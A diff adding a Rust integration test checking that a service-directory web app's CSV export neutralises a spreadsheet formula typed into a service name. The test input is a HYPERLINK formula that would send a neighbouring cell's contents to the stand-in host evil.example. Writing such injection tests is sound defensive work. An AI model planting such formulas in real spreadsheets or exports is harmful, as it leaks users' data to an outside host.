@@ -373,3 +373,56 @@ async fn members_add_services_of_their_own_organization_and_bad_places_are_named
         );
     }
 }
+
+#[tokio::test]
+async fn a_formula_typed_as_a_service_name_is_defused_in_the_csv() {
+    const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A3,\"Ver\")";
+    for backend in test_backends() {
+        let db = db(backend).await;
+        let (a, _, _, _) = two_organizations(&db, 8).await;
+        let member = account_in(&db, Role::Member, Some(uuid::Uuid::parse_str(&a).unwrap())).await;
+        let mut browser = Browser::signed_in(backend, &db, member.id).await;
+        let new = format!("/organizaciones/{a}/servicios/nuevo");
+        browser.get(&new).await;
+        let made = browser
+            .post(
+                &new,
+                &[
+                    ("name", FORMULA),
+                    ("sectors", "salud"),
+                    ("location", "07089"),
+                    ("latitude", "14.9"),
+                    ("longitude", "-92.26"),
+                    ("cost", "gratuito"),
+                ],
+            )
+            .await;
+        assert_eq!(made.status, 303, "{}", made.body);
+        let table = get(backend, "/servicios.csv?estado=07&sector=salud", &[]).await;
+        assert_eq!(table.status, 200);
+        let row = table
+            .body
+            .lines()
+            .find(|l| l.contains("evil.example"))
+            .expect("the service is in the table");
+        // Quoted as CSV, with the quote that keeps spreadsheets from running it.
+        assert!(
+            row.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A3,\"\"Ver\"\")\","),
+            "{row}"
+        );
+        assert!(!row.contains(",\"=") && !row.contains(",="), "{row}");
+        assert!(
+            row.ends_with(",14.9,-92.26"),
+            "coordinates stay numbers: {row}"
+        );
+        let mut lines = table.body.lines();
+        assert!(lines.next().unwrap().ends_with(",Latitud,Longitud"));
+        assert!(
+            lines
+                .next()
+                .unwrap()
+                .starts_with("#org +name,#org +id,#org +type,#service +name"),
+            "the hashtag row is intact"
+        );
+    }
+}
